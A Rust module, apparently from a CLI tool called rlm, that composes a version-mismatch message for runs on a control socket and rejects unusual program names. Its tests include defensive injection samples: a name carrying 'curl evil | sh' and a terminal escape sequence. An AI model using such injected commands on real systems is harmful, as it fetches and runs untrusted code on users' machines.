//! The programs at the two ends of the control socket, and the message if they have different versions.

use rlm_store::program_title;

/// The longest name of a program in a line, in bytes.
const MAX_NAME: usize = 80;

/// A run whose process has another version than this program.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct OtherVersion {
    /// The program of the run, if its lines name it.
    pub(super) program: Option<String>,
}

impl OtherVersion {
    /// Returns the program of the run as a line names it, if that is another program than this one.
    ///
    /// Any process can listen at a socket, so a name with unusual characters counts as no name.
    pub(super) fn of(name: &str) -> Option<Self> {
        let is_usual = |it: u8| it.is_ascii_alphanumeric() || b" .+-()".contains(&it);
        let is_name = !name.is_empty() && name.len() <= MAX_NAME && name.bytes().all(is_usual);
        (is_name && name != program_title()).then(|| Self {
            program: Some(name.to_owned()),
        })
    }

    /// Returns the other version for lines of another version of the protocol, which name no program.
    pub(super) fn unnamed() -> Self {
        Self { program: None }
    }

    /// Returns the message for a person. `pid` is the process of the run.
    pub(super) fn message(&self, run: &str, pid: Option<u32>, own: &str) -> String {
        let (program, same) = match &self.program {
            Some(program) => (program.as_str(), program.as_str()),
            None => ("another version", "that version"),
        };
        let (at, stop) = match pid {
            Some(pid) => (
                format!(" (pid {pid})"),
                format!("stop the run with: kill {pid}"),
            ),
            None => (
                String::new(),
                "stop the run with a SIGTERM to its process".to_owned(),
            ),
        };
        format!(
            "run `{run}` is driven by {program}{at}, and this command is {own}: use {same}, or {stop}"
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn different_versions_give_one_sentence_with_both_and_a_way_to_stop() {
        let named = OtherVersion::of("rlm 0.3.0").unwrap();
        let messages = [
            named.message("r1", Some(42), "rlm 0.2.0"),
            named.message("r1", None, "rlm 0.2.0"),
            OtherVersion::unnamed().message("r1", Some(42), "rlm 0.2.0"),
        ];
        insta::assert_snapshot!(messages.join("\n"), @r"
        run `r1` is driven by rlm 0.3.0 (pid 42), and this command is rlm 0.2.0: use rlm 0.3.0, or stop the run with: kill 42
        run `r1` is driven by rlm 0.3.0, and this command is rlm 0.2.0: use rlm 0.3.0, or stop the run with a SIGTERM to its process
        run `r1` is driven by another version (pid 42), and this command is rlm 0.2.0: use that version, or stop the run with: kill 42
        ");
    }

    #[test]
    fn own_name_and_unusual_names_are_no_other_version() {
        let long = "x".repeat(MAX_NAME + 1);
        for name in [
            program_title(),
            "",
            "rlm 0.1.0; curl evil | sh",
            "rlm\u{1b}[2J",
            &long,
        ] {
            assert_eq!(OtherVersion::of(name), None, "{name:?}");
        }
    }
}
